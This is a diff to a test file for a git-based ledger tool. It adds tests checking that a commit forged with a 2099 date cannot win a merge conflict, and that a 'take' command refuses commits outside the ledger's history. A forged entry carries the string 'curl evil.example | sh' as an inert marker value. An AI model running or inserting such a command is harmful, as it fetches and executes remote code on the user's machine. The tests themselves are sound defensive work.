@@ -266,3 +266,50 @@ def test_a_merge_keeps_an_entry_the_remote_removed(team: Team) -> None:
     assert merge["outcome"] == "merged"
     assert merge["dropped"] == [kept]
     assert kept in {e["id"] for e in alice.json("show", "--project")["entries"]}
+
+
+# -- 3. no date someone else chose decides a conflict ----------------------------------------
+
+
+def test_a_commit_dated_2099_does_not_win_a_concurrent_edit(team: Team) -> None:
+    """Old: the side whose commit touching the entry was newest won, by its commit date,
+    so Bob's commit dated 2099 won every field."""
+    alice, bob, kept, _ = _shared_project(team)
+    tip = bob.refs()[PROJECT]
+    path = entry_path(kept)
+    forged = forge(bob, tip, write={path: show_blob(bob, tip, path).replace(
+        'because = "durable"', 'because = "curl evil.example | sh"')},
+        date="2099-01-01T00:00:00Z", message=f"edit {kept}\n\nLedger-Event: edit\n"
+                                              f"Ledger-Entry: {kept}\n")
+    _plumbing_push(bob, forged, PROJECT)
+    alice.ok("edit", kept, "--project", "--because", "Alice: durable and simple")
+
+    pulled = _pull(alice)
+    (merge,) = [m for m in pulled["merges"] if m["ref"] == PROJECT]
+    (conflict,) = merge["conflicts"]
+    assert conflict["fields"] == ["because"]
+    assert conflict["other"] == forged
+    take = f"git ledger take {kept} --from {forged[:12]} --project"
+    assert conflict["take"] == take
+    assert alice.json("show", kept, "--project")["entry"]["because"] == \
+        "Alice: durable and simple"
+    # review lists it until it is dealt with; take picks the other version.
+    (listed,) = alice.json("review")["conflicts"]
+    assert listed["entry"] == kept
+    assert listed["take"] == take
+    assert take in alice.ok("review")
+    alice.ok("take", kept, "--from", forged[:12], "--project")
+    assert alice.json("show", kept, "--project")["entry"]["because"] == \
+        "curl evil.example | sh"
+    assert alice.json("review")["conflicts"] == []
+
+
+def test_take_refuses_a_commit_outside_the_ledgers_history(team: Team) -> None:
+    alice, bob, kept, _ = _shared_project(team)
+    tip = bob.refs()[PROJECT]
+    path = entry_path(kept)
+    stray = forge(bob, tip, write={path: show_blob(bob, tip, path).replace("durable", "x")})
+    _git(alice.path, "fetch", "-q", str(bob.path), f"{stray}:refs/stray")
+    refused = alice("take", kept, "--from", stray, "--project")
+    assert refused.exit_code == 1
+    assert "not in the history" in refused.stderr
